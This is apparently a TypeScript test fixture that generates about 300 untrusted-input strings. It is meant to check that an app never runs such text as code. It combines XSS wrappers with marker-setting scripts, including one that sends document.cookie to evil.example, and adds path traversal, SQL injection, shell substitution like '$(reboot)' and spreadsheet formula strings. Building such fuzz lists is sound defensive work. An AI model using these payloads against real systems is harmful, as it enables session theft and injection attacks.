/** 300 different texts that could run as code, of the kinds in docs/choices.md#untrusted-text. */

/** Property of the window that a payload sets if it runs. */
export const MARK = 'perpdeckRan'
const js = `window.${MARK}=1`

const scripts: readonly string[] = [
  js,
  `(()=>{${js}})()`,
  `eval("${js}")`,
  `setTimeout("${js}")`,
  `Function("${js}")()`,
  `top.${MARK}=1`,
  `self['${MARK}']=1`,
  `alert(1)`,
  `import("data:text/javascript,${js}")`,
  `fetch("https://evil.example/?"+document.cookie)`,
]

/** Each kind makes a payload from a script. Ten scripts make 250 of them. */
const kinds: readonly ((script: string) => string)[] = [
  (s) => `<script>${s}</script>`,
  (s) => `</title><script>${s}</script>`,
  (s) => `<ScRiPt >${s}</sCrIpT>`,
  (s) => `<img src=x onerror='${s}'>`,
  (s) => `<img src="x" onerror="${s.replaceAll('"', '&quot;')}">`,
  (s) => `"><img src=x onerror='${s}'>`,
  (s) => `' onmouseover='${s}' x='`,
  (s) => `" autofocus onfocus='${s}' x="`,
  (s) => `<svg onload='${s}'>`,
  (s) => `<svg><script>${s}</script></svg>`,
  (s) => `<svg><animate onbegin='${s}' attributeName=x dur=1s>`,
  (s) => `<svg><foreignObject><img src=x onerror='${s}'></foreignObject></svg>`,
  (s) => `<math><mtext><img src=x onerror='${s}'>`,
  (s) => `<details open ontoggle='${s}'>`,
  (s) => `<iframe srcdoc="<script>${s.replaceAll('"', '&quot;')}</script>">`,
  (s) => `<iframe src="javascript:${s.replaceAll('"', '%22')}">`,
  (s) => `<a href="javascript:${s.replaceAll('"', '%22')}">x</a>`,
  (s) => `javascript:${s}`,
  (s) => `data:text/html,<script>${s}</script>`,
  (s) => `<base href="https://evil.example/"><!-- ${s} -->`,
  (s) => `<style>@import "https://evil.example/${encodeURIComponent(s)}";</style>`,
  (s) => `<template><img src=x onerror='${s}'></template>`,
  (s) => `{{constructor.constructor('${s}')()}}`,
  (s) => '${' + s + '}',
  (s) => `$t(common:cancel) {{symbol}} ${s}`,
]

const others: readonly string[] = [
  // Characters that change the direction of text or are invisible.
  '\u202Etxt.exe',
  '\u202DLTR\u202C',
  '\u2066isolated\u2069',
  'no\u200Bwidth\u200Djoined\u2060',
  '\uFEFFmark',
  '\u061Cعربي',
  'עברית <b>',
  // Very long texts.
  'A'.repeat(10_000),
  '<b>'.repeat(3000),
  'W'.repeat(300),
  ' '.repeat(500),
  '\n'.repeat(200),
  'e' + '\u0301'.repeat(200),
  // Unusual characters.
  '😀'.repeat(50),
  '👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈',
  'null\u0000byte',
  '\u0007\u001B[31mred',
  '\uD800 lone',
  '\uFFFD\uFFFE',
  '𝕓𝕠𝕝𝕕 ℌ',
  '١٢٣٤٫٥',
  // Names and paths with a special meaning to programs.
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '../../etc/passwd',
  '..%2f..%2fuser',
  '%00',
  '%3Cscript%3E',
  '//evil.example',
  '/\\evil.example',
  "'; DROP TABLE orders; --",
  '" OR ""="',
  '$(reboot)',
  '`reboot`',
  '=HYPERLINK("https://evil.example")',
  '+1+cmd|calc',
  '@SUM(1)',
  'NaN',
  'undefined',
  'null',
  'true',
  '[object Object]',
  '&lt;b&gt;',
  '&#60;script&#62;',
  '&nbsp;',
  ']]>',
  '-->',
  '<!--',
  '<![CDATA[x',
]

export const payloads: readonly string[] = [
  ...kinds.flatMap((kind) => scripts.map((script) => kind(script))),
  ...others,
]
